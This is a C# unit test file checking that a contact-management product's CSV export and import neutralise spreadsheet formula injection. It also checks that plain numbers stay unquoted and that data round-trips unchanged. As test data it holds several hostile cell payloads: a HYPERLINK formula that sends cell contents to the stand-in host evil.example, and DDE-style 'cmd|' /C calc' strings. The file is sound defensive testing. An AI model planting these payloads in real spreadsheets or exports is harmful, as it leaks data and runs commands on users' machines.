using System.Text;
using TalkNTalk.Core.AddressBooks;
using TalkNTalk.Core.AddressBooks.Import;
using TalkNTalk.Core.Common;
using TalkNTalk.Core.Tests.Infrastructure;

namespace TalkNTalk.Core.Tests.Common;

/// <summary>CSV formula injection (OWASP): every CSV the product writes opens in a spreadsheet as text, never as a formula.</summary>
public sealed class CsvCellsTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")")]
    [InlineData("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0")]
    [InlineData("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("\t=1+1", "'\t=1+1")]
    [InlineData("\r=1+1", "'\r=1+1")]
    [InlineData("+254712345678", "'+254712345678")]
    [InlineData("-A1", "'-A1")]
    [InlineData("-1+1", "'-1+1")]
    [InlineData("-", "'-")]
    public void Cells_a_spreadsheet_could_run_get_a_leading_quote(string cell, string written)
    {
        Assert.True(CsvCells.IsFormula(cell));
        Assert.Equal(written, CsvCells.Neutralise(cell));
        Assert.Equal(cell, CsvCells.Restore(CsvCells.Neutralise(cell)));
    }

    // The choice for money: a plain negative number cannot call anything, so the ledger's -12.50 stays a number to add up.
    [Theory]
    [InlineData("-12.50")]
    [InlineData("-3")]
    [InlineData("254712345678")]
    [InlineData("Wanjiku")]
    [InlineData("a=b")]
    [InlineData("'quoted already")]
    [InlineData("")]
    [InlineData(null)]
    public void Other_cells_are_written_as_they_are(string? cell)
    {
        Assert.False(CsvCells.IsFormula(cell));
        Assert.Equal(cell, CsvCells.Neutralise(cell));
        Assert.Equal(cell, CsvCells.Restore(cell));
    }

    [Fact]
    public async Task The_writer_quotes_neutralised_cells_and_leaves_numbers_alone()
    {
        var text = new StringWriter();
        await using (var csv = CsvCells.CreateWriter(text))
        {
            foreach (var header in new[] { "=header", "amount" })
                csv.WriteField(header);
            await csv.NextRecordAsync();
            csv.WriteField("=1+2");
            csv.WriteField((-12.5m).ToString("0.00", System.Globalization.CultureInfo.InvariantCulture));
            csv.WriteField(-7);
            csv.WriteField("plain, with comma");
            await csv.NextRecordAsync();
        }

        Assert.Equal("\"'=header\",amount\r\n\"'=1+2\",-12.50,-7,\"plain, with comma\"\r\n", text.ToString());
    }

    [Fact]
    public async Task A_contact_export_neutralises_names_and_custom_fields_and_imports_back_unchanged()
    {
        await using var services = await TestServices.StartAsync();
        var org = await services.CreateOrganisationAsync();
        var books = services.Get<AddressBookService>();
        var contacts = services.Get<ContactService>();
        var book = await books.CreateAsync(org, "Hostile", null);
        await contacts.AddAsync(org, book.Id, new ContactInput("0712345678", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+cmd|' /C calc'!A0",
            new Dictionary<string, string> { ["note"] = "@SUM(1+1)" }));

        var text = new StringWriter();
        await services.Get<ContactExporter>().WriteCsvAsync(org, book.Id, text);
        var lines = text.ToString().Split("\r\n", StringSplitOptions.RemoveEmptyEntries);

        // Numbers are written as 254…, never +254…, so they need no quote.
        Assert.StartsWith("254712345678,,,,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",\"'+cmd|' /C calc'!A0\",active,safaricom,\"'@SUM(1+1)\",", lines[1]);

        var copy = await books.CreateAsync(org, "Copy", null);
        await using var csv = new MemoryStream(Encoding.UTF8.GetBytes(text.ToString()));
        await services.Get<ContactImporter>().ImportAsync(org, copy.Id, csv, new ColumnMapping(0, 4, 5, new Dictionary<int, string> { [8] = "note" }));
        var copied = Assert.Single((await contacts.QueryAsync(org, copy.Id, new ContactQuery())).Items);
        Assert.Equal("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\") +cmd|' /C calc'!A0", copied.FullName);
        Assert.Equal("@SUM(1+1)", copied.CustomFields["note"]);
    }

    [Fact]
    public async Task The_import_report_of_invalid_rows_neutralises_what_the_file_held()
    {
        var text = new StringWriter();
        await ContactImporter.WriteInvalidRowsCsvAsync([new InvalidRow(2, "=1+1", "Not a Kenyan mobile number."), new InvalidRow(3, "+2547", "Too short.")], text);

        Assert.Equal("line,value,reason\r\n2,\"'=1+1\",Not a Kenyan mobile number.\r\n3,\"'+2547\",Too short.\r\n", text.ToString());
    }
}
